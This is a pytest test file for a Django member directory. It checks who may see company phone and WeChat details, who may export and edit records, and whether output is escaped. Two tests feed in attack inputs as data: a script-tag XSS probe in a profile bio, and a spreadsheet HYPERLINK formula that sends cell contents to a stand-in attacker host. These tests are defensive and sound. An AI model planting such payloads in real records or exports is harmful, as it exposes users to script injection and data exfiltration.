import csv
import io

import pytest
from django.urls import reverse

from members.models import Visibility

pytestmark = pytest.mark.django_db

PHONE = "0730-1234567"


@pytest.fixture
def company(make_organisation):
    return make_organisation(name="隐私测试有限公司", phone=PHONE, wechat="privacy-wx")


@pytest.fixture
def viewers(client, make_organisation, make_member, company, organiser):
    """A client signed in as each kind of viewer, or anonymous."""
    other = make_organisation(name="别家公司有限公司")
    other_member = make_member(other, "other-member@example.com")
    colleague = make_member(company, "colleague@example.com")

    def sign_in(kind):
        client.logout()
        user = {"member": other_member, "organiser": organiser, "colleague": colleague}.get(kind)
        if user:
            client.force_login(user)
        return client

    return sign_in


EXPECTED = {
    # visibility: who sees it
    Visibility.PUBLIC: {"anonymous", "member", "colleague", "organiser"},
    Visibility.MEMBERS: {"member", "colleague", "organiser"},
    Visibility.HIDDEN: {"colleague", "organiser"},
}


@pytest.mark.parametrize("visibility", list(EXPECTED))
@pytest.mark.parametrize("kind", ["anonymous", "member", "colleague", "organiser"])
def test_phone_visibility_on_the_company_page_and_in_the_directory(
    viewers, company, visibility, kind
):
    company.phone_visibility = visibility
    company.save()
    client = viewers(kind)
    page = client.get(company.get_absolute_url()).content.decode()
    listing = client.get(reverse("members:directory"), {"q": "隐私测试"}).content.decode()
    expected = kind in EXPECTED[visibility]
    assert (PHONE in page) is expected
    assert (PHONE in listing) is expected


def test_a_person_s_hidden_contacts_stay_hidden_from_other_members(viewers, company, make_member):
    make_member(
        company,
        "shy@example.com",
        phone="13800001234",
        phone_visibility=Visibility.HIDDEN,
        wechat="shy-wx",
        wechat_visibility=Visibility.PUBLIC,
    )
    html = viewers("member").get(company.get_absolute_url()).content.decode()
    assert "13800001234" not in html
    assert "shy-wx" in html
    html = viewers("organiser").get(company.get_absolute_url()).content.decode()
    assert "13800001234" in html


def read_csv(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))


def test_export_shows_a_member_only_what_they_may_see(viewers, company):
    company.phone_visibility = Visibility.HIDDEN
    company.wechat_visibility = Visibility.MEMBERS
    company.save()
    response = viewers("member").get(reverse("members:directory_export"), {"q": "隐私测试"})
    assert response.status_code == 200
    rows = read_csv(response)
    assert len(rows) == 1
    row = rows[0]
    assert row["企业名称"] == "隐私测试有限公司"
    assert PHONE not in ",".join(row.values())
    assert "privacy-wx" in ",".join(row.values())


def test_export_is_for_members_and_organisers_only(viewers, make_user, client):
    assert viewers("anonymous").get(reverse("members:directory_export")).status_code == 302
    client.force_login(make_user(email="nobody@example.com"))
    assert client.get(reverse("members:directory_export")).status_code == 404


def test_organisers_admin_export_has_every_field(viewers, company):
    company.phone_visibility = Visibility.HIDDEN
    company.save()
    client = viewers("organiser")
    response = client.get(
        reverse("members_organisations:index"), {"export": "csv", "q": "隐私测试"}
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert PHONE in text
    assert "隐私测试有限公司" in text


def test_a_member_cannot_edit_another_company(viewers, company, make_organisation):
    client = viewers("member")  # belongs to 别家公司有限公司
    response = client.get(reverse("my:edit_organisation"))
    assert "隐私测试有限公司" not in response.content.decode()
    # The only company the form edits is the member's own, whatever is posted.
    client.post(
        reverse("my:edit_organisation"),
        {"name": "隐私测试有限公司", "phone": "999", "organisation": company.pk},
    )
    company.refresh_from_db()
    assert company.phone == PHONE
    # Nor through the admin.
    response = client.get(reverse("members_organisations:edit", args=[company.pk]))
    assert response.status_code == 404


def test_staff_cannot_edit_their_own_company(client, company, make_member):
    staff = make_member(company, "staff@example.com", role="staff")
    client.force_login(staff)
    assert client.get(reverse("my:edit_organisation")).status_code == 404


def test_lapsed_companies_are_not_public(client, make_organisation, make_member):
    lapsed = make_organisation(name="过期公司有限公司", status="lapsed")
    assert client.get(lapsed.get_absolute_url()).status_code == 404
    assert "过期公司有限公司" not in client.get(reverse("members:directory")).content.decode()
    client.force_login(make_member(lapsed, "lapsed@example.com"))
    assert client.get(lapsed.get_absolute_url()).status_code == 200  # its own people still see it


def test_profile_text_is_escaped(client, company, make_member):
    make_member(company, "xss@example.com", bio="<script>alert(1)</script>")
    html = client.get(company.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;" in html


def test_exports_do_not_hand_formulas_to_spreadsheets(viewers, company):
    company.main_products = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    company.save()
    for kind in ("member", "organiser"):
        client = viewers(kind)
        if kind == "member":
            response = client.get(reverse("members:directory_export"), {"q": "隐私测试"})
            text = response.content.decode("utf-8-sig")
        else:
            response = client.get(
                reverse("members_organisations:index"), {"export": "csv", "q": "隐私测试"}
            )
            text = b"".join(response.streaming_content).decode("utf-8-sig")
        assert "'=HYPERLINK" in text, kind
